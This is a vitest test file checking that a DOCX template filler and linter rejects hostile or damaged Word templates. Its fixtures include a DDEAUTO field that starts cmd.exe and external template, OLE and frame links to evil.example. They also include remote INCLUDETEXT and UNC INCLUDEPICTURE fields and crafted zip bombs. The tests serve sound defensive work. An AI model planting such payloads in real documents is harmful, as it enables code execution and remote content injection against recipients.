import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { openDocx } from '#main/documents/docx-package.ts';
import { fillTemplate } from '#main/documents/fill-template.ts';
import { directionLetterCatalogue, placementLetterCatalogue } from '#main/documents/letter-fields.ts';
import { lintTemplate } from '#main/documents/lint-template.ts';
import { elements } from '#main/documents/xml.ts';
import { AppError } from '#shared/result.ts';
import { withParts, wordFile } from './office-tools.ts';

const values = { text: { language: 'ru', ru: {} } } as const;

async function refusal(template: Uint8Array): Promise<unknown> {
  const outcomes = await Promise.allSettled([
    fillTemplate(template, directionLetterCatalogue, values),
    lintTemplate(template, directionLetterCatalogue),
  ]);
  return outcomes.map(outcome =>
    outcome.status === 'rejected' && outcome.reason instanceof AppError
      ? `${outcome.reason.code}: ${outcome.reason.params['reason']}`
      : outcome,
  );
}

const both = (reason: string): readonly string[] => [`templateBroken: ${reason}`, `templateBroken: ${reason}`];

/** An archive of one deflated entry whose directory says what it is told to say. */
function archive(name: string, content: Uint8Array, declared: number, copies = 1): Uint8Array {
  const packed = deflateRawSync(content, { level: 9 });
  const title = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(title.length, 26);
  const entries = Array.from({ length: copies }, (_, copy) => {
    const own = copy === 0 ? title : Buffer.from(`${name}${copy}`);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(declared, 24);
    entry.writeUInt16LE(own.length, 28);
    return Buffer.concat([entry, own]);
  });
  const directory = Buffer.concat(entries);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(copies, 8);
  end.writeUInt16LE(copies, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + title.length + packed.length, 16);
  return Buffer.concat([local, title, packed, directory, end]);
}

describe('a template is refused when it', () => {
  test('is not an archive', async () => {
    expect(await refusal(Buffer.from('Just a text'))).toEqual(both('notDocx'));
  });

  test('is empty', async () => {
    expect(await refusal(new Uint8Array())).toEqual(both('notDocx'));
  });

  test('is cut short', async () => {
    const whole = await wordFile(['{student}']);
    expect(await refusal(whole.subarray(0, whole.length - 40))).toEqual(both('notDocx'));
  });

  test('is protected by a password', async () => {
    expect(await refusal(Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'))).toEqual(both('encrypted'));
  });

  test('contains macros', async () => {
    const plain = await wordFile(['{student}']);
    expect(await refusal(await withParts(plain, { 'word/vbaProject.bin': 'macro' }))).toEqual(both('macros'));
  });

  test('declares itself a macro document', async () => {
    const types =
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
    const template = await withParts(await wordFile(['{student}']), { '[Content_Types].xml': types });
    expect(await refusal(template)).toEqual(both('macros'));
  });

  const relationships = (...inner: string[]): string =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;
  const toDocument = `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>`;
  const field = (...pieces: string[]): string =>
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map(text => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const document = (inner: string): string =>
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}</w:p></w:body></w:document>`;

  test.each([
    ['starts another program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['starts another program, written in pieces', field(' DDE', 'AUTO excel x')],
    ['starts another program, by a simple field', '<w:fldSimple w:instr="DDE excel x"/>'],
    ['reads a text at an address', field(' INCLUDETEXT "https://example.org/a.docx"')],
    ['reads a picture of another computer', field(' INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png" \\d')],
  ])('has a field that %s', async (_what, inner) => {
    const template = await withParts(await wordFile(['x']), { 'word/document.xml': document(inner) });
    expect(await refusal(template)).toEqual(both('outside'));
  });

  test('draws in another document whole', async () => {
    const template = await withParts(await wordFile(['x']), {
      'word/_rels/document.xml.rels': relationships(
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.html"/>',
      ),
      'word/page.html': '<img src="https://example.org/a.png">',
    });
    expect(await refusal(template)).toEqual(both('outside'));
  });

  test('is filled without the addresses Word would fetch something from, and keeps those the reader clicks', async () => {
    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const evil = (kind: string, id: string): string =>
      `<Relationship Id="${id}" Type="${type}/${kind}" Target="http&#58;//evil.example/${kind}" TargetMode="External"/>`;
    const template = await withParts(await wordFile(['x']), {
      '_rels/.rels': relationships(toDocument),
      'word/_rels/settings.xml.rels': relationships(evil('attachedTemplate', 'rId1')),
      'word/_rels/header1.xml.rels': relationships(
        evil('image', 'rId1'),
        evil('oleObject', 'rId2'),
        evil('frame', 'rId3'),
      ),
      'word/_rels/footer1.xml.rels': relationships(
        `<Relationship Id="rId1" Type="${type}/hyperlink" Target="https://college.example/?a=1&amp;b=2" TargetMode="External"/>`,
      ),
    });
    const filled = await fillTemplate(template, directionLetterCatalogue, values);
    const docx = openDocx(filled);
    const rels = docx.names.filter(name => name.endsWith('.rels')).flatMap(name => elements(docx.xml(name)));
    const targets = rels
      .filter(one => one.attributes['TargetMode'] === 'External')
      .map(one => one.attributes['Target'] ?? '');
    expect(targets.toSorted()).toEqual([
      'Normal.dotm',
      'about:blank',
      'about:blank',
      'about:blank',
      'https://college.example/?a=1&b=2',
    ]);
    expect(Buffer.concat(docx.names.flatMap(name => docx.bytes(name) ?? [])).includes('evil.example')).toBe(false);
  });

  test('has no document in it', async () => {
    expect(await refusal(await withParts(await wordFile([]), { 'word/document.xml': null }))).toEqual(
      both('noDocument'),
    );
  });

  test('is a workbook', async () => {
    expect(await refusal(archive('xl/workbook.xml', Buffer.from('<x/>'), 4))).toEqual(both('notDocx'));
  });

  test('brings a document type declaration', async () => {
    const template = await withParts(await wordFile([]), {
      'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>',
    });
    expect(await refusal(template)).toEqual(both('damaged'));
  });

  test('unpacks to far more than it weighs', async () => {
    expect(await refusal(archive('word/document.xml', Buffer.alloc(5_000_000), 5_000_000))).toEqual(both('tooLarge'));
  });

  test('declares more than a hundred megabytes', async () => {
    expect(await refusal(archive('word/document.xml', Buffer.from('x'), 100_000_001))).toEqual(both('tooLarge'));
  });

  test('holds a picture of 200 MB', async () => {
    expect(await refusal(archive('word/media/image1.png', Buffer.from('x'), 200_000_000))).toEqual(both('tooLarge'));
  });

  test('has more than two thousand entries', async () => {
    expect(await refusal(archive('word/document.xml', Buffer.from('x'), 1, 2_001))).toEqual(both('tooLarge'));
  });

  test('unpacks to more than it declares', async () => {
    expect(await refusal(archive('[Content_Types].xml', Buffer.alloc(90_000), 4))).toEqual(both('damaged'));
  });

  test('opens a part and never closes it', async () => {
    const error = await fillTemplate(await wordFile(['{#student}Студент']), directionLetterCatalogue, values).catch(
      (reason: unknown) => reason,
    );
    expect(error).toMatchObject({
      code: 'templateBroken',
      params: { reason: 'tags', field: '{#student}' },
    });
  });
});

describe('the linter', () => {
  const issues = async (paragraphs: readonly string[], catalogue = directionLetterCatalogue): Promise<unknown> =>
    (await lintTemplate(await wordFile(paragraphs), catalogue)).issues;

  test('names the nearest right spelling of an unknown field', async () => {
    expect(await issues(['{studnet} {мамандык} {студннт} {xyzzy}'])).toEqual([
      { kind: 'unknownField', tag: '{studnet}', suggestion: 'student' },
      { kind: 'unknownField', tag: '{мамандык}', suggestion: 'мамандық' },
      { kind: 'unknownField', tag: '{студннт}', suggestion: 'студент' },
      { kind: 'unknownField', tag: '{xyzzy}' },
    ]);
  });

  test('finds a list that is never closed and one that was never opened', async () => {
    expect(await issues(['{#students}{student}'], placementLetterCatalogue)).toEqual([
      { kind: 'unclosedList', tag: '{#students}' },
    ]);
    expect(await issues(['{/students}'], placementLetterCatalogue)).toEqual([
      { kind: 'unopenedList', tag: '{/students}' },
    ]);
  });

  test('accepts another name of the same list at its end, but not another list', async () => {
    expect(await issues(['{#students}{student}{/студенты}'], placementLetterCatalogue)).toEqual([]);
    expect(await issues(['{#students}{student}{/mentor}'], placementLetterCatalogue)).toEqual([
      { kind: 'crossedLists', tag: '{/mentor}', suggestion: '{/students}' },
    ]);
  });

  test('says that a field of a row stands outside its list', async () => {
    expect(await issues(['{student}'], placementLetterCatalogue)).toEqual([
      { kind: 'outsideList', tag: '{student}', suggestion: 'студенты' },
    ]);
  });

  test('finds a brace without its pair and an empty tag', async () => {
    expect(await issues(['Фамилия {student'])).toEqual([{ kind: 'missingBrace', tag: 'Фамилия {student' }]);
    expect(await issues(['{}'])).toEqual([{ kind: 'emptyTag', tag: '{}' }]);
  });

  test('reports each used field once, under its English name', async () => {
    const template = await wordFile(['{студент} {student} {кәсіпорын_қаз}']);
    expect((await lintTemplate(template, directionLetterCatalogue)).used).toEqual(['student', 'firm']);
  });
});
